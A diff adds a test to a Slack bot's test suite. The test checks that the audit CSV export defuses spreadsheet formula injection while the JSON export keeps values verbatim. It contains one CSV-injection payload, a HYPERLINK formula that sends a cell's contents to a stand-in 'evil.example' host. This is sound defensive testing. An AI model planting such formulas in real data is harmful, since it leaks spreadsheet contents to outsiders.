@@ -294,6 +294,28 @@ def test_audit_export_into_head_ends_quietly(db_url, make_bot):
     assert result.returncode == 141  # as any command whose reader left (128 + SIGPIPE)
 
 
+def test_audit_csv_export_never_hands_a_spreadsheet_a_formula(db_url, make_bot):
+    """Anyone can set a Slack display name like `=HYPERLINK(...)`: in the CSV an auditor opens in a
+    spreadsheet it is text, not a formula (CSV injection); the JSON lines stay verbatim."""
+    import csv
+    import io
+
+    from bot.core import audit
+
+    bot = make_bot(db_url)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with bot.svc.sessions.begin() as s:
+        audit.append(s, actor_id=ALICE, actor_name=formula, action="lock.acquired", environment="staging",
+                     outcome="ok", detail="+1 was typed here", params={"reason": "@here"})  # fmt: skip
+    exported = run_cli(["audit", "export", "--format", "csv"], bot.settings)
+    assert exported.returncode == 0, exported.stderr
+    (row,) = [r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["action"] == "lock.acquired"]
+    assert row["actor_name"] == "'" + formula and row["detail"] == "'+1 was typed here"
+    assert row["environment"] == "staging" and row["outcome"] == "ok"  # ordinary cells untouched
+    jsonl = [json.loads(line) for line in run_cli(["audit", "export"], bot.settings).stdout.splitlines()]
+    assert [r["actor_name"] for r in jsonl if r["action"] == "lock.acquired"] == [formula]
+
+
 def fake_pip_audit(folder: Path, report: dict, rc: int) -> Path:
     """A stand-in for pip-audit that answers with `report` in its JSON format (-f json -o FILE)."""
     path = folder / "pip-audit"
